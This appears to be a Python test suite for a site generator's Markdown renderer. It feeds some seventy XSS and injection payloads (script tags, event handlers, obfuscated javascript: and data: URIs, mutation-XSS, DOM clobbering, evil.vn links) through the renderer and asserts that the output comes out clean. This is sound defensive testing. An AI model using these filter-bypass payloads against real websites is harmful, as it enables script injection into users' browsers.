"""Nothing that an attacker writes into a body runs, loads, leaves or covers anything."""

import re
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from generator.core.references import references
from generator.pages.prose import Prose, render
from generator.pages.prose_html import cleaned, is_safe

ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title", "loading", "decoding"},
    "ol": {"start"},
    "th": {"align"},
    "td": {"align"},
    "div": {"class", "tabindex", "role", "aria-label"},
    **{f"h{level}": {"id"} for level in range(2, 7)},
    **{tag: set() for tag in ("p", "br", "hr", "ul", "li", "blockquote", "pre", "code")},
    **{tag: set() for tag in ("em", "strong", "table", "thead", "tbody", "tr")},
}
"""What may stand in a rendered body; written here once more, so that a slip there is seen here."""

VOID = {"br", "hr", "img"}

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in a word": "a<script src=//evil.vn/x.js></script>b",
    "script cut in two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script over lines": "<script\n>\nalert(1)\n</script\n>",
    "image onerror": "<img src=x onerror=alert(1)>",
    "image onerror with slashes": "<img/src=x/onerror=alert(1)>",
    "onerror from an alt": '![" onerror="alert(1)](x.jpg)',
    "onerror from a source": '![a](x.jpg"onerror="alert(1))',
    "onmouseover from a title": "[a](b 'c\" onmouseover=\"alert(1)')",
    "title that closes its tag": "[a](b '\"><script>alert(1)</script>')",
    "title with a table": "[a](b '<table></table><h2>x</h2>')",
    "javascript": "[a](javascript:alert(1))",
    "javascript in mixed case": "[a](JaVaScRiPt:alert(1))",
    "javascript hidden by entities": "[a](&#106;avascript&#58;alert(1))",
    "javascript hidden by hex": "[a](&#x6A;&#x61;vascript&colon;alert(1))",
    "javascript hidden twice": "[a](javascript&amp;#58;alert(1))",
    "javascript with a tab": "[a](java&#9;script:alert(1))",
    "javascript with a line end": "[a](<java\nscript:alert(1)>)",
    "javascript after a control": "[a](\x01javascript:alert(1))",
    "javascript after an encoded control": "[a](&#1;javascript:alert(1))",
    "javascript after a space": "[a](&nbsp; javascript:alert(1))",
    "javascript by escape": r"[a](java\script\:alert(1))",
    "javascript by reference": "[a][x]\n\n[x]: javascript:alert(1)",
    "javascript in an autolink": "<javascript://x%0aalert(1)>",
    "javascript in an image": "![a](javascript:alert(1))",
    "javascript in an image by reference": "![a]\n\n[a]: javascript:alert(1) 't'",
    "vbscript": "[a](vbscript:msgbox(1))",
    "data": "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "data image": "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "file": "[a](file:///etc/passwd)",
    "blob": "[a](blob:https://a.vn/1)",
    "protocol-relative link": "[a](//evil.vn)",
    "protocol-relative by backslash": r"[a](\\\\evil.vn) [b](/\\evil.vn)",
    "protocol-relative by entity": "[a](&#47;&#47;evil.vn)",
    "protocol-relative by tab": "[a](/&#9;/evil.vn)",
    "protocol-relative image": "![a](//evil.vn/track.gif)",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "svg use": '<svg><use href="data:image/svg+xml,x#y"/></svg>',
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mathml link": '<math href="javascript:alert(1)">a</math>',
    "form": "<form action=//evil.vn><input name=q><button formaction=//evil.vn>a</button></form>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=//evil.vn">',
    "base": "<base href=//evil.vn/>",
    "iframe": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object and embed": "<object data=x></object><embed src=x>",
    "link": "<link rel=stylesheet href=//evil.vn/x.css>",
    "style element": "<style>@import '//evil.vn/x.css';body{display:none}</style>",
    "style attribute": '<p style="position:fixed;inset:0">a</p>',
    "style from a table": "| a |\n|:-:|\n| b |",
    "class": '<p class="notice">a</p>',
    "clobbering by id": '<a id=__config href="x">a</a><img name=getElementById>',
    "clobbering by a heading": '# __config\n\n# document\n\n# " onclick=alert(1) x="',
    "attribute list": "# a {: #__config onclick=alert(1) }\n\nb\n{: style=color:red }",
    "attribute list inline": "[a](b){: onclick=alert(1) } *c*{: id=__config }",
    "comment": "<!-- --!><script>alert(1)</script> -->",
    "comment of old": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?>",
    "nested link": "[a [b](javascript:alert(1)) c](javascript:alert(2))",
    "link in an alt": "![a](x.jpg[b](javascript:alert(1)))",
    "code that closes itself": "`</code><script>alert(1)</script>`",
    "block of code": "    </code></pre><script>alert(1)</script>",
    "placeholder of the renderer": "\x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03 <b>a</b> &amp;",
    "entity in text": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "unfinished tag": "<img src=x onerror=alert(1) //",
    "unfinished attribute": '<a href="[a](b)" onclick="',
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "template": "<template><script>alert(1)</script></template>",
    "password in an address": "[a](https://dvk.vn@evil.vn/)",
}


def as_written(target: str, image: bool) -> str:
    """The most careless of callers: publishes whatever an editor wrote."""
    return target


class Reader(HTMLParser):
    """Reads HTML as far as a browser would act on it, and notes tags that do not match."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.other: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.other.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_harmless(html: str) -> None:
    """Check by two parsers that only known tags, attributes and addresses stand here."""
    reader = Reader(html)
    assert reader.open == reader.other == []
    for tag, attributes in reader.tags:
        assert tag in ATTRIBUTES
        assert attributes.keys() <= ATTRIBUTES[tag]
        address = attributes.get("href", attributes.get("src"))
        if address is not None:
            seen = re.sub(r"[\x00-\x20\x7f-\x9f]", "", address)
            assert not re.match(r"[/\\]{2}", seen)
            scheme = re.match(r"([^/?#]*?):", seen)
            assert (
                scheme is None
                or scheme[1].lower() in {"http", "https", "mailto"}
                or (not re.fullmatch(r"[a-zA-Z][a-zA-Z0-9+.-]*", scheme[1]))
            )
        assert attributes.get("class", "scroll") == "scroll"
        assert re.fullmatch(r"[a-z0-9-]+", attributes.get("id") or "x")
    cleaned = nh3.clean(html, tags=set(ATTRIBUTES), attributes=ATTRIBUTES, link_rel=None)
    assert cleaned == html


def assert_all_harmless(prose: Prose) -> None:
    """Check a body as a whole and in each of its parts."""
    assert_harmless(prose.html)
    for section in prose.sections:
        assert_harmless(section.html)
    ids = re.findall(r'<h[2-6] id="([^"]*)"', prose.html)
    assert len(ids) == len(set(ids)) == len(prose.headings)


@pytest.mark.parametrize("body", ATTACKS.values(), ids=ATTACKS)
@pytest.mark.parametrize(
    "around", ["{}", "> {}", "- a\n\n    {}", "| a | b |\n|---|---|\n| {} |", "## {}"]
)
def test_attacks_come_out_harmless(body: str, around: str) -> None:
    """Alone, in a quote, a list, a table or a heading, even with a careless caller."""
    assert_all_harmless(render(around.format(body), as_written))


# Not a scheme to any browser: these lead to a page of this site that does not exist.
ONLY_PATHS = {"javascript hidden twice", "javascript by escape"}
HIDDEN = {name for name in ATTACKS if name.startswith(("javascript", "vbscript", "protocol"))}


@pytest.mark.parametrize("name", sorted(HIDDEN - ONLY_PATHS))
def test_hostile_addresses_are_gone(name: str) -> None:
    """No link or image remains of an address that runs something or hides another site."""
    tags = Reader(render(ATTACKS[name], as_written).html).tags
    assert [tag for tag, _ in tags if tag in ("a", "img")] == []


def test_the_checks_above_do_find_what_they_look_for() -> None:
    """The parsers that judge the output are themselves judged."""
    for bad in [
        "<script>x</script>",
        '<p onclick="x">a</p>',
        '<a href="javascript:x">a</a>',
        '<a href="//evil.vn">a</a>',
        '<p style="x">a</p>',
        "<p>a",
        "<!-- a -->",
        '<h2 id="__config">a</h2>',
        '<div class="notice">a</div>',
    ]:
        with pytest.raises(AssertionError):
            assert_harmless(bad)


def test_the_second_barrier_stands_alone() -> None:
    """Were the writer ever to pass on what it read, the cleaning would still stop it."""
    for rough in ATTACKS.values():
        assert_harmless(cleaned(rough, set()))
    rough = '<a href="//evil.vn" rel="x">a</a><img src="y" class="z"><p align="right" id="x">b</p>'
    assert cleaned(rough, {"y"}) == '<a rel="x">a</a><img src="y"><p>b</p>'
    row = '<table><tr><th align="x">a</th><td align="right">b</td></tr></table>'
    assert '<tr><th>a</th><td align="right">b</td></tr>' in cleaned(row, set())


@pytest.mark.parametrize("body", ATTACKS.values(), ids=ATTACKS)
def test_what_is_written_needs_no_cleaning(body: str) -> None:
    """What the writer makes of attacks is already as the second barrier would leave it."""
    html = "".join(each.html for each in render(body, as_written).sections)
    bare = re.sub(r"</?div[^>]*>", "", html)
    attributes = [each for _, each in Reader(bare).tags]
    addresses = {each.get("href") or each.get("src") or "" for each in attributes}
    assert is_safe(bare, addresses)
    assert cleaned(bare, addresses) == bare


@pytest.mark.parametrize(
    "foreign",
    [
        *[
            "<script>",
            "<p class=x>",
            "<p >",
            "<P>",
            "<br/>",
            "<!-- a -->",
            "<",
            "a < b",
            "</",
            "<?",
        ],
        *['<a href="x" onclick="y">', "<a href='x'>", "<a href=x>", "<a>", '<a name="x">'],
        *['<a href="x" title="<p>">', '<h2 id="A b">', '<ol start="x">', '<td align="x">'],
        '<img alt="a" src="x" onerror="y" loading="lazy" decoding="async">',
        '<img alt="a" src="x"" loading="lazy" decoding="async">',
        *['<a href="y">', '<img alt="a" src="y" loading="lazy" decoding="async">'],
        '<a href="x"><a href="y">',
    ],
)
def test_any_other_tag_or_address_is_sent_to_be_cleaned(foreign: str) -> None:
    """The quick look passes only the tags that the writer writes and addresses given by name."""
    assert is_safe('<p>a</p><a href="x">b</a><td align="left">', {"x"})
    assert not is_safe(f"<p>a</p>{foreign}b", {"x"})


def test_a_writer_that_fails_is_cleaned_after(monkeypatch: pytest.MonkeyPatch) -> None:
    """Were the writer to pass on raw HTML, a page would still be as the barrier leaves it."""
    monkeypatch.setattr("generator.pages.prose_writer.escaped", lambda text: text)
    for body in (
        "a <script>alert(1)</script>",
        "## <img src=x onerror=alert(1)>",
        "<svg/onload=a>",
    ):
        assert_all_harmless(render(body, as_written))


def test_an_image_comes_only_from_where_the_caller_said() -> None:
    """Whatever is written, the sources in the page are those handed out, no other."""
    body = '![a](x.jpg "" src=//evil.vn") ![b][c] ![d](e.jpg)\n\n[c]: //evil.vn/f.jpg'
    given_out = {"x.jpg": "/anh/1.webp", "e.jpg": None}
    tags = Reader(render(body, lambda target, image: given_out.get(target)).html).tags
    assert {each["src"] for tag, each in tags if tag == "img"} <= {"/anh/1.webp"}


MARKS = [*"[]()<>\"'|\\&;*_`", "![", "](", "**", "```", "đường", "javascript:", "//", "[x]"]
SPACED = ["# ", "- ", "1. ", "> ", "    ", "\n", "\n\n", " ", "\t", "[x]: ", "\x02"]
LINES = ["\n|---|---|\n", "---\n", "===\n"]
WRITTEN = st.lists(st.sampled_from([*ATTACKS.values(), *MARKS, *SPACED, *LINES]), max_size=25).map(
    "".join
)


@settings(max_examples=300, deadline=None)
@given(WRITTEN | st.text())
def test_no_text_at_all_does_harm(body: str) -> None:
    """Any mixture of Markdown, attacks and chance renders, and renders harmless."""
    assert_all_harmless(render(body, as_written))


TARGETS = st.sampled_from(["a.md", "b_c.md", "d(e).md", "g.md?h=1&amp;i=2", "#j", "https://k.vn/l"])
INLINE = st.one_of(
    st.sampled_from(["chữ", "*nghiêng*", "`[mã](x)`", r"\[x](y)", "![", "(", ")", "!"]),
    st.builds("[t]({})".format, TARGETS),
    st.builds("![t]({})".format, TARGETS),
    st.builds('[t](<{}> "tên")'.format, TARGETS),
    st.builds("[![t]({})]({})".format, TARGETS, TARGETS),
    st.builds("[t][ref]".format),
)
BLOCKS = st.lists(
    st.builds(
        str.__add__,
        st.sampled_from(["", "> ", "- ", "1. ", "## ", "    "]),
        st.lists(INLINE, min_size=1, max_size=4).map(" ".join),
    ),
    max_size=5,
).map("\n\n".join)


@settings(deadline=None)
@given(BLOCKS)
def test_every_target_that_is_rendered_was_found_before(body: str) -> None:
    """What the renderer asks about is what the check of links saw in the source."""
    asked: set[tuple[str, bool]] = set()

    def address(target: str, image: bool) -> None:
        asked.add((target, image))

    body += "\n\n[ref]: z.md 'tên'"
    render(body, address)
    assert asked <= {(each.target, each.image) for each in references(body)}
